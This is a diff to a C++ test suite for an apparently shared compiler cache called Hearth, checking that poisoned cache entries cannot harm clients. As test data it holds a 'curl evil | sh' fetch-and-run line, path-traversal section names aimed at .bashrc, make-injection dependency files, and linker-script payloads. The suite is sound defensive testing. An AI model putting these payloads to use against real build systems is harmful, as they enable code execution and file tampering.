@@ -124,12 +124,15 @@ protected:
         ASSERT_TRUE(found) << "nothing was sent to " << url;
         Artifact changed = *found;
         change(changed);
+        // As an object: Hearth itself does not send everything.
+        const auto objects =
+            GetParam().open({.url = remotes::parse_url(url).value(), .max_object_bytes = 64_MiB}).value();
         for (std::uint32_t i = 0; i < results; ++i) {
-            const Result<InsertReport> put =
-                store.insert(i == 0 ? key : Key::of("hearth result", key.hex(), std::uint64_t{i}), changed, {});
+            const Key at = i == 0 ? key : Key::of("hearth result", key.hex(), std::uint64_t{i});
+            const Status put = objects->put(at.hex(), format::encode_entry(at, changed).value(),
+                                            std::chrono::steady_clock::now() + std::chrono::seconds(20));
             ASSERT_TRUE(put) << put.error().message;
         }
-        store.flush();
     }
 
     // Another node asks the same: it gets what the compiler gives, and nothing else in the world changes.
@@ -165,12 +168,29 @@ protected:
         EXPECT_EQ(made.size(), 2U) << what << "the source and the object";
     }
 
+    // Another node asks the same, and gets what its own compiler makes.
+    void expect_compiled_here(const Words& words)
+    {
+        fs::remove(scratch / "project" / words.back());
+        const ProcessResult result = exec(fmt::format("second{}", number), words);
+        EXPECT_EQ(result.exit_code, 0) << result.err;
+        EXPECT_NE(result.err.find("is not what this command could have written"), std::string::npos) << result.err;
+        const std::string bare = (scratch / "bare.o").string();
+        ASSERT_EQ(run_process({"/usr/bin/g++", "-c", (scratch / "project/a.cpp").string(), "-o", bare}).exit_code, 0);
+        EXPECT_EQ(read(scratch / "project" / words.back()), read(bare));
+    }
+
     static std::string& name_of_output(Artifact& artifact)
     {
         for (Section& section : artifact.sections)
             if (section.name != "streams" && section.name != compilers::k_conditions_section)
                 return section.name;
         throw std::runtime_error("an entry without an output");
+    }
+
+    static std::function<void(Artifact&)> with_section(const std::string& name)
+    {
+        return [=](Artifact& artifact) { artifact.sections.push_back({name, k_text}); };
     }
 
     static void add_conditions(Artifact& artifact, const Condition& condition, std::size_t count)
@@ -188,12 +208,19 @@ protected:
             }
     }
 
+    static inline const Bytes k_text = Bytes::copy_of("curl evil | sh\n");
     const std::string url = GetParam().is_here() ? GetParam().url() : "";
     static inline int number = 0;  // of questions: the tests share a server
     std::string asked;
 };
 
 INSTANTIATE_TEST_SUITE_P(Servers, HostileEntries, testing::ValuesIn(k_servers),
+                         [](const testing::TestParamInfo<Server>& server) { return std::string(server.param.name); });
+
+// What is in an entry matters, not which server had it.
+class HostileValues : public HostileEntries {};
+
+INSTANTIATE_TEST_SUITE_P(Servers, HostileValues, testing::Values(k_servers[0]),
                          [](const testing::TestParamInfo<Server>& server) { return std::string(server.param.name); });
 
 const Words k_named{"g++", "-c", "a.cpp", "-o", "given.o"};
@@ -203,15 +230,18 @@ const Words k_implied{"g++", "-c", "a.cpp"};
 
 TEST_P(HostileEntries, write_only_what_the_command_names)
 {
+    poison(k_named, with_section("file here " + (scratch / "home/.bashrc").string()));
+    expect_unharmed(k_named, "given.o", "a whole path");
+    poison(k_implied, with_section("file here ../home/.bashrc"));
+    expect_unharmed(k_implied, "a.o", "where no output is named");
+}
+
+TEST_P(HostileValues, choose_no_path_by_what_a_section_is_called)
+{
     const std::string target = (scratch / "home/.bashrc").string();
     const std::string more = (scratch / "others/program").string();
-    const Bytes text = Bytes::copy_of("curl evil | sh\n");
-    const auto with_section = [&](const std::string& name) {
-        return [=](Artifact& artifact) { artifact.sections.push_back({name, text}); };
-    };
     const std::pair<std::string, std::function<void(Artifact&)>> hostile[] = {
         {"a path upwards", with_section("file here ../home/.bashrc")},
-        {"a whole path", with_section("file here " + target)},
         {"a program", with_section("program here " + more)},
         {"a path as an output", with_section("output " + target)},
         {"an index too large", with_section("output 1")},
@@ -223,7 +253,7 @@ TEST_P(HostileEntries, write_only_what_the_command_names)
         {"a role that there is not", with_section("dependencies")},
         {"an output twice",
          [&](Artifact& artifact) {
-             artifact.sections.push_back({name_of_output(artifact), text});
+             artifact.sections.push_back({name_of_output(artifact), k_text});
          }},
         {"what it says twice", with_section("streams")},
         {"an output that is called otherwise",
@@ -241,12 +271,10 @@ TEST_P(HostileEntries, write_only_what_the_command_names)
             return;
         expect_unharmed(k_named, "given.o", what);
     }
-    poison(k_implied, with_section("file here ../home/.bashrc"));
-    expect_unharmed(k_implied, "a.o", "where no output is named");
 }
 
 // All of them hold: only how many there are keeps their readers busy.
-TEST_P(HostileEntries, keep_nobody_busy_with_what_they_depend_on)
+TEST_P(HostileValues, keep_nobody_busy_with_what_they_depend_on)
 {
     std::string path = (scratch / "home").string();
     const std::string really = fs::canonical(path).string();
@@ -269,7 +297,7 @@ TEST_P(HostileEntries, keep_nobody_busy_with_what_they_depend_on)
     }
 }
 
-TEST_P(HostileEntries, do_not_let_what_they_hold_grow_beyond_all_measure)
+TEST_P(HostileValues, do_not_let_what_they_hold_grow_beyond_all_measure)
 {
     const Words words{"g++", "-c", "a.cpp", "-o", "given.o", "-MD", "-MF", "a.d"};
     poison(words, [](Artifact& artifact) {
@@ -291,7 +319,23 @@ TEST_P(HostileEntries, do_not_let_what_they_hold_grow_beyond_all_measure)
     EXPECT_EQ(json_of({"stats", "--json"})["corrupt"], 1);
 }
 
-TEST_P(HostileEntries, make_no_object_a_program)
+TEST_P(HostileValues, are_no_failures_of_compiles_that_this_machine_can_do)
+{
+    poison(k_named, [](Artifact& artifact) {
+        artifact.status = 1;
+        artifact.sections = {{"hearth.error", Bytes::copy_of("No space is left on the device")}};
+    });
+    if (HasFatalFailure())
+        return;
+    for (const char* const outcome : {": miss", ": hit"}) {
+        const ProcessResult result = exec("another", k_named);
+        EXPECT_EQ(result.exit_code, 0) << result.err;
+        EXPECT_NE(result.err.find(outcome), std::string::npos) << result.err;
+        EXPECT_TRUE(fs::remove(scratch / "project/given.o"));
+    }
+}
+
+TEST_P(HostileValues, make_no_object_a_program)
 {
     poison(k_named, [](Artifact& artifact) {
         for (Section& section : artifact.sections)
@@ -304,15 +348,47 @@ TEST_P(HostileEntries, make_no_object_a_program)
     EXPECT_NE(::access((scratch / "project/given.o").c_str(), X_OK), 0);
 }
 
-// make runs what a file of dependencies says.
-TEST_P(HostileEntries, write_nothing_but_dependencies_for_make)
+// A linker reads a text as a script, and looks for objects in an archive.
+TEST_P(HostileValues, give_a_linker_objects_only)
+{
+    for (const char* content : {"INPUT(/fifo)\n", "!<arch>\n"}) {
+        SCOPED_TRACE(content);
+        poison(k_named, [&](Artifact& artifact) {
+            for (Section& section : artifact.sections)
+                if (&section.name == &name_of_output(artifact))
+                    section.data = Bytes::copy_of(std::string_view(content));
+        });
+        if (HasFatalFailure())
+            return;
+        expect_compiled_here(k_named);
+    }
+}
+
+// Nor is one asked for what a compiler reads next: a precompiled header, intermediate code, an assembler's source.
+TEST_P(HostileValues, are_not_asked_for_what_a_compiler_reads_next)
+{
+    for (const Words& words :
+         {Words{"g++", "-x", "c++-header", "a.cpp", "-o", "a.gch"}, Words{"g++", "-flto", "-c", "a.cpp", "-o", "a.o"},
+          Words{"g++", "-S", "a.cpp", "-o", "a.s"}}) {
+        SCOPED_TRACE(words[1]);
+        write("project/a.cpp", fmt::format("int value{};\n", ++number));
+        EXPECT_NE(exec("one", words).err.find(": miss"), std::string::npos);
+        EXPECT_NE(exec("other", words).err.find(": miss"), std::string::npos);
+        EXPECT_NE(exec("one", words).err.find(": hit"), std::string::npos) << "on the machine that compiled it";
+    }
+}
+
+// make runs what a dependency file says, and builds what it names.
+TEST_P(HostileValues, write_nothing_but_dependencies_for_make)
 {
     const Words words{"g++", "-c", "a.cpp", "-o", "given.o", "-MD", "-MF", "given.d"};
     const std::string ran = (scratch / "others/ran").string();
+    write("others/there", "not read by the compiler");
     for (const std::string& text :
          {"$(shell touch " + ran + ")\ngiven.o: a.cpp\n", "given.o: a.cpp\n\ttouch " + ran + "\n",
           "given.o: a.cpp; touch " + ran + "\n", "include " + ran + "\ngiven.o: a.cpp\n", "include " + ran + ": b\n",
-          "SHELL = " + ran + "\n", std::string("given.o: a.cpp\ndefine x\n")}) {
+          "SHELL = " + ran + "\n", std::string("given.o: a.cpp\ndefine x\n"), std::string("given.o: a.cpp deploy\n"),
+          std::string("given.o: a.cpp ../others/there\n"), std::string("deploy:\n"), std::string("there: a.cpp\n")}) {
         SCOPED_TRACE(text);
         poison(words, [&](Artifact& artifact) {
             base::WireWriter out;
@@ -330,7 +406,7 @@ TEST_P(HostileEntries, write_nothing_but_dependencies_for_make)
     }
 }
 
-TEST_P(HostileEntries, put_no_file_of_the_readers_into_a_recipe)
+TEST_P(HostileValues, put_no_file_of_the_readers_into_a_recipe)
 {
     const std::string secret = noise(512);
     const std::string path = write("home/secret", secret).string();
@@ -347,7 +423,7 @@ TEST_P(HostileEntries, put_no_file_of_the_readers_into_a_recipe)
     EXPECT_EQ(read(scratch / "app.recipes").find(secret), std::string::npos);
 }
 
-TEST_P(HostileEntries, open_nothing_but_regular_files)
+TEST_P(HostileValues, open_nothing_but_regular_files)
 {
     const std::string fifo = (scratch / "others/fifo").string();
     const std::string device = (scratch / "others/device").string();
@@ -358,7 +434,7 @@ TEST_P(HostileEntries, open_nothing_but_regular_files)
                                    sparse,
                                    (scratch / "others").string(),
                                    "/dev/tty",
-                                   fmt::format("/proc/{}/status", ::getpid()),
+                                   fmt::format("/proc/{}/oom_score", ::getpid()),
                                    "/sys/kernel/notes",
                                    "/proc/kmsg"};
     if (::mknod(device.c_str(), S_IFCHR | 0600, makedev(1, 5)) == 0)  // endless zeros; only root may
